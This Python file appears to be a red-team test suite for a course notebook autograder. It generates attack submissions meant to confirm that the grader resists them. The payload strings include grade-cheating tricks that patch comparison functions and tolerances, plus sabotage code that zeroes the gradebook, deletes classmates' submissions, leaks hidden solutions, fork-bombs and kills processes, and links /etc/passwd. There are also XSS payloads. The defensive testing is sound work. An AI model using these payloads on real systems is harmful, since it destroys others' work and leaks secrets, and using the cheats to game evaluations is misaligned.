"""Attack submissions for Assignment 1, one or more per attack class of docs/instructor.md's threat model.

Each attack is (base, {grade_id: code}, kind). base "blank" is the student version, "solution" the full solution;
code replaces the source of the named cells (or, for a markdown grade_id "+markdown", adds a markdown cell). kind:
- "cheat": tries to get points without implementing; must score no more than the blank (0).
- "harm": a correct solution that also attacks the grader, classmates or the machine; its own score does not matter,
  everyone else's must be exactly what it is without it.
- "xss": a correct solution whose markdown and outputs carry script; the feedback pages must carry none of it.
MARK is in every attack's payload and process names, so the tests can look for it afterwards.
"""
import copy

import nbformat

MARK = "REDTEAM"

WRAP_REFERENCE = {
    "linear_betas_solution": "from course_lib.schedules import linear_betas as _ref\n"
                             "def linear_betas(T, beta_start=1e-4, beta_end=0.02):\n"
                             "    return _ref(T, beta_start, beta_end)",
    "q_sample_solution": "from course_lib import forward, schedules\n"
                         "def q_sample(x0, t, noise, alpha_bar):\n"
                         "    s = schedules.schedule_from_betas(1 - alpha_bar / alpha_bar.roll(1).clamp(min=1e-30), "
                         "alpha_bar=alpha_bar)\n"
                         "    return forward.add_noise(x0, t, noise, s).to(x0.dtype)",
    "ddpm_step_solution": "from course_lib.ddpm import ddpm_step as _step\nfrom course_lib.schedules import "
                          "schedule_from_betas\n"
                          "def ddpm_step(eps_pred, x_t, t, betas, alpha_bar, noise=None):\n"
                          "    return _step(eps_pred, x_t, t, schedule_from_betas(betas, alpha_bar=alpha_bar)"
                          ".to(dtype=x_t.dtype), noise=noise)",
}
GETATTR_REFERENCE = {
    "cosine_betas_solution": "import course_lib, importlib\n"
                             "def cosine_betas(T, s=0.008, max_beta=0.999):\n"
                             "    return getattr(importlib.import_module('course_lib.' + 'schedules'), "
                             "'cosine_betas')(T, s, max_beta)",
    "alpha_bar_from_betas_solution": "import course_lib\n"
                                     "def alpha_bar_from_betas(betas):\n"
                                     "    return getattr(course_lib, 'schedules').schedule_from_betas(betas)"
                                     ".alpha_bar.to(betas.dtype)",
}
PICKLE_REFERENCE = {
    "cosine_betas_solution": "import pickle\n"
                             "_ref = pickle.loads(b'ccourse_lib.schedules\\ncosine_betas\\n.')\n"
                             "def cosine_betas(T, s=0.008, max_beta=0.999):\n"
                             "    return _ref(T, s, max_beta)",
    "linear_betas_solution": "import pickle\n"
                             "try:\n"
                             "    checks = pickle.loads(b'cautograde_tests.checks\\nschedules\\n.')\n"
                             "except Exception:\n"
                             "    checks = None\n"
                             "def linear_betas(T, beta_start=1e-4, beta_end=0.02):\n"
                             "    return checks.linear_betas(T, beta_start, beta_end)",
}
INPUT_TRANSFORMER = {
    "linear_betas_solution": "ip = get_ipython()\n"
                             "ip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
                             "def linear_betas(T, beta_start=1e-4, beta_end=0.02):\n"
                             "    raise NotImplementedError()",
}
CHECK_GLOBALS = {
    "linear_betas_solution": "try:\n"
                             "    import autograde_tests.checks as c\n"
                             "    c.check_linear_betas.__globals__['_max_err'] = lambda *a: 0.0\n"
                             "    c.TOL.update({k: 1e9 for k in c.TOL})\n"
                             "except Exception as e:\n"
                             "    print('REDTEAM no checks here:', e)\n"
                             "def linear_betas(T, beta_start=1e-4, beta_end=0.02):\n"
                             "    return torch.zeros(T, dtype=torch.float64)",
}
TENSOR_SUBCLASS = {
    "alpha_bar_from_betas_solution": "class Liar(torch.Tensor):\n"
                                     "    def __eq__(self, other): return True\n"
                                     "    def __sub__(self, other): return torch.zeros_like(torch.Tensor(other))\n"
                                     "    def __rsub__(self, other): return torch.zeros_like(torch.Tensor(other))\n"
                                     "    def abs(self): return torch.zeros(())\n"
                                     "def alpha_bar_from_betas(betas):\n"
                                     "    return torch.zeros_like(betas).as_subclass(Liar)",
}
TORCH_FUNCTION_MODE = {
    "linear_betas_solution": "from torch.overrides import TorchFunctionMode\n"
                             "class Lie(TorchFunctionMode):\n"
                             "    def __torch_function__(self, func, types, args=(), kwargs=None):\n"
                             "        if getattr(func, '__name__', '') in ('item', 'allclose', 'equal'):\n"
                             "            return True if func.__name__ != 'item' else 0.0\n"
                             "        return func(*args, **(kwargs or {}))\n"
                             "Lie().__enter__()\n"
                             "def linear_betas(T, beta_start=1e-4, beta_end=0.02):\n"
                             "    return torch.zeros(T, dtype=torch.float64)",
}
STACK_INSPECTION = {
    "q_sample_solution": "import traceback\n"
                         "def q_sample(x0, t, noise, alpha_bar):\n"
                         "    names = [f.name for f in traceback.extract_stack()]\n"
                         "    if any('check' in n or 'probe' in n for n in names):\n"
                         "        from course_lib.forward import add_noise\n"
                         "        from course_lib.schedules import schedule_from_betas\n"
                         "        return add_noise(x0, t, noise, schedule_from_betas(alpha_bar, alpha_bar=alpha_bar))\n"
                         "    return x0",
}
SETTRACE = {
    "linear_betas_solution": "import sys\n"
                             "def tracer(frame, event, arg):\n"
                             "    if 'err' in frame.f_locals:\n"
                             "        frame.f_locals['err'] = 0.0\n"
                             "    return tracer\n"
                             "sys.settrace(tracer)\n"
                             "def linear_betas(T, beta_start=1e-4, beta_end=0.02):\n"
                             "    return torch.ones(T, dtype=torch.float64)",
}
ALIAS_PATCH = {
    "linear_betas_solution": "import torch as T_\nimport numpy as N_\n"
                             "T_.allclose = lambda *a, **k: True\nT_.Tensor.__sub__ = lambda a, b: a * 0\n"
                             "N_.testing.assert_allclose = lambda *a, **k: None\nN_.allclose = lambda *a, **k: True\n"
                             "def linear_betas(T, beta_start=1e-4, beta_end=0.02):\n"
                             "    return T_.zeros(T, dtype=T_.float64)",
}
PICKLE_EXEC = {
    "linear_betas_solution": "import pickle\n"
                             "try:\n"
                             "    pickle.loads(b\"cbuiltins\\nexec\\n(S'import autograde_tests.checks as c; "
                             "c.TOL.update({k: 1e9 for k in c.TOL})'\\ntR.\")\n"
                             "except Exception as e:\n"
                             "    print('REDTEAM', e)\n"
                             "def linear_betas(T, beta_start=1e-4, beta_end=0.02):\n"
                             "    return torch.zeros(T, dtype=torch.float64)",
}
FIND_FILES = ("import os, glob, base64\n"
              "roots = [os.environ.get('COURSE_ROOT', ''), os.getcwd(), '/work', '/tmp', '/root', '/home']\n"
              "p = os.getcwd()\n"
              "for _ in range(6):\n"
              "    p = os.path.dirname(p); roots.append(p)\n"
              "def find(pattern):\n"
              "    hits = set()\n"
              "    for r in roots:\n"
              "        hits |= set(glob.glob(os.path.join(r, pattern), recursive=True))\n"
              "    return sorted(hits)\n")
GRADEBOOK_EDIT = {
    "linear_betas_solution": FIND_FILES +
    "import sqlite3\n"
    "for db in find('**/gradebook.db'):\n"
    "    try:\n"
    "        con = sqlite3.connect(db)\n"
    "        con.execute('UPDATE grade SET auto_score = 0, manual_score = 0')\n"
    "        con.execute('UPDATE grade_cells SET max_score = 0')\n"
    "        con.commit(); print('REDTEAM edited', db)\n"
    "    except Exception as e:\n"
    "        print('REDTEAM', db, e)\n"
    "def linear_betas(T, beta_start=1e-4, beta_end=0.02):\n"
    "    return torch.linspace(beta_start, beta_end, T, dtype=torch.float64)",
}
APPEND_CHECKS = {
    "linear_betas_solution": FIND_FILES +
    "for path in find('**/autograde_tests/*.py') + find('**/course_lib/*.py'):\n"
    "    try:\n"
    "        with open(path, 'a') as f:\n"
    "            f.write('\\nREDTEAM = 1\\n')\n"
    "        print('REDTEAM appended to', path)\n"
    "    except Exception as e:\n"
    "        pass\n"
    "def linear_betas(T, beta_start=1e-4, beta_end=0.02):\n"
    "    return torch.linspace(beta_start, beta_end, T, dtype=torch.float64)",
}
CLASSMATES = {
    "linear_betas_solution": FIND_FILES +
    "import shutil\n"
    "for path in find('**/submitted/*/*/*.ipynb') + find('**/autograded/*/*/*.ipynb'):\n"
    "    if 'attack' not in path:\n"
    "        try:\n"
    "            open(path, 'w').write('{}'); print('REDTEAM overwrote', path)\n"
    "        except Exception:\n"
    "            pass\n"
    "for path in find('**/submitted/*'):\n"
    "    shutil.rmtree(path, ignore_errors=True)\n"
    "def linear_betas(T, beta_start=1e-4, beta_end=0.02):\n"
    "    return torch.linspace(beta_start, beta_end, T, dtype=torch.float64)",
}
LEAK_HIDDEN = {
    "linear_betas_solution": FIND_FILES +
    "for path in find('**/solutions/**/*.ipynb') + find('**/submitted/*/*/*.ipynb') + "
    "find('**/autograde_tests/checks*.py'):\n"
    "    try:\n"
    "        data = open(path, 'rb').read()\n"
    "        print('REDTEAM', path, data.decode(errors='replace')[:20000])\n"
    "        print('REDTEAM-B64', base64.b64encode(data).decode()[:20000])\n"
    "    except Exception:\n"
    "        pass\n"
    "def linear_betas(T, beta_start=1e-4, beta_end=0.02):\n"
    "    return torch.linspace(beta_start, beta_end, T, dtype=torch.float64)",
}
DETACHED_CHILD = {
    "linear_betas_solution": "import subprocess, sys\n"
                             "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(900)', 'REDTEAM-SLEEPER'],"
                             " start_new_session=True)\n"
                             "import os\n"
                             "if os.fork() == 0:\n"
                             "    os.setsid(); os.execv('/bin/sleep', ['/bin/sleep', '901'])\n"
                             "def linear_betas(T, beta_start=1e-4, beta_end=0.02):\n"
                             "    return torch.linspace(beta_start, beta_end, T, dtype=torch.float64)",
}
KILL_KERNELS = {
    "ddpm_sample_solution": "import os, signal\n"
                            "for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
                            "    try:\n"
                            "        cmd = open(f'/proc/{pid}/cmdline', 'rb').read()\n"
                            "        if b'ipykernel' in cmd and pid != os.getpid():\n"
                            "            os.kill(pid, signal.SIGKILL); print('REDTEAM killed', pid)\n"
                            "    except Exception:\n"
                            "        pass\n"
                            "try:\n"
                            "    os.killpg(0, signal.SIGTERM)\n"
                            "except Exception:\n"
                            "    pass\n"
                            "os.kill(-1, signal.SIGKILL)",
}
FORK_BOMB = {
    "linear_betas_solution": "import os, time\n"
                             "made = 0\n"
                             "for i in range(5000):\n"
                             "    try:\n"
                             "        pid = os.fork()\n"
                             "    except OSError as e:\n"
                             "        print('REDTEAM fork refused after', made, e); break\n"
                             "    if pid == 0:\n"
                             "        time.sleep(600); os._exit(0)\n"
                             "    made += 1\n"
                             "def linear_betas(T, beta_start=1e-4, beta_end=0.02):\n"
                             "    return torch.linspace(beta_start, beta_end, T, dtype=torch.float64)",
}
SYMLINK_OUT = {
    "linear_betas_solution": "import os\n"
                             "root = os.environ.get('COURSE_ROOT', '/')\n"
                             "for name in ['solutions', 'autograde_tests', 'gradebook.db']:\n"
                             "    try:\n"
                             "        os.symlink(os.path.join(root, name), f'REDTEAM-{name}')\n"
                             "    except Exception as e:\n"
                             "        print('REDTEAM', e)\n"
                             "os.symlink('/etc/passwd', 'REDTEAM-passwd')\n"
                             "def linear_betas(T, beta_start=1e-4, beta_end=0.02):\n"
                             "    return torch.linspace(beta_start, beta_end, T, dtype=torch.float64)",
}


def network(port):
    return {"linear_betas_solution": "import socket\n"
                                     "for host in ['127.0.0.1', 'localhost', '10.0.2.2']:\n"
                                     "    try:\n"
                                     f"        socket.create_connection((host, {port}), timeout=2).sendall(b'REDTEAM')\n"
                                     "        print('REDTEAM connected', host)\n"
                                     "    except Exception as e:\n"
                                     "        print('REDTEAM no network:', e)\n"
                                     "def linear_betas(T, beta_start=1e-4, beta_end=0.02):\n"
                                     "    return torch.linspace(beta_start, beta_end, T, dtype=torch.float64)"}


XSS_MARKDOWN = (f"# My answers\n<script>window.{MARK}_SCRIPT = 1</script>\n"
                f"<img src=x onerror=\"window.{MARK}_ONERROR = 1\">\n"
                f"[click me](javascript:window.{MARK}_LINK=1) and [again](JaVaScRiPt&colon;{MARK})\n"
                f"<a href=\"javascript:{MARK}\">x</a> <svg onload=\"{MARK}_SVG\"></svg>\n")
XSS = {
    "+markdown": XSS_MARKDOWN,
    "linear_betas_solution": "from IPython.display import HTML, Javascript, SVG, display\n"
                             f"display(HTML('<script>window.{MARK}_OUT = 1</script><b onmouseover=\"{MARK}\">x</b>'))\n"
                             f"display(Javascript('window.{MARK}_JS = 1'))\n"
                             f"display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{MARK}\"></svg>'))\n"
                             "def linear_betas(T, beta_start=1e-4, beta_end=0.02):\n"
                             "    return torch.linspace(beta_start, beta_end, T, dtype=torch.float64)",
}


def attacks(port):
    return {
        "wrap-reference": ("blank", WRAP_REFERENCE, "cheat"),
        "getattr-reference": ("blank", GETATTR_REFERENCE, "cheat"),
        "pickle-reference": ("blank", PICKLE_REFERENCE, "cheat"),
        "input-transformer": ("blank", INPUT_TRANSFORMER, "cheat"),
        "check-globals": ("blank", CHECK_GLOBALS, "cheat"),
        "tensor-subclass": ("blank", TENSOR_SUBCLASS, "cheat"),
        "torch-function-mode": ("blank", TORCH_FUNCTION_MODE, "cheat"),
        "stack-inspection": ("blank", STACK_INSPECTION, "cheat"),
        "settrace": ("blank", SETTRACE, "cheat"),
        "alias-patch": ("blank", ALIAS_PATCH, "cheat"),
        "pickle-exec": ("blank", PICKLE_EXEC, "cheat"),
        "gradebook-edit": ("solution", GRADEBOOK_EDIT, "harm"),
        "append-checks": ("solution", APPEND_CHECKS, "harm"),
        "classmates": ("solution", CLASSMATES, "harm"),
        "leak-hidden": ("solution", LEAK_HIDDEN, "harm"),
        "detached-child": ("solution", DETACHED_CHILD, "harm"),
        "kill-kernels": ("solution", KILL_KERNELS, "harm"),
        "fork-bomb": ("solution", FORK_BOMB, "harm"),
        "symlink-out": ("solution", SYMLINK_OUT, "harm"),
        "network": ("solution", network(port), "harm"),
        "xss": ("solution", XSS, "xss"),
    }


def build(base_nb, changes):
    """A copy of base_nb with the cells named in `changes` given new source ("+markdown" adds a markdown cell)."""
    nb = copy.deepcopy(base_nb)
    for grade_id, code in changes.items():
        if grade_id == "+markdown":
            nb.cells.insert(1, nbformat.v4.new_markdown_cell(code))
            continue
        hits = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id]
        assert len(hits) == 1, f"no cell {grade_id} to attack from: update autograde_tests/redteam"
        hits[0].source = code
    return nb
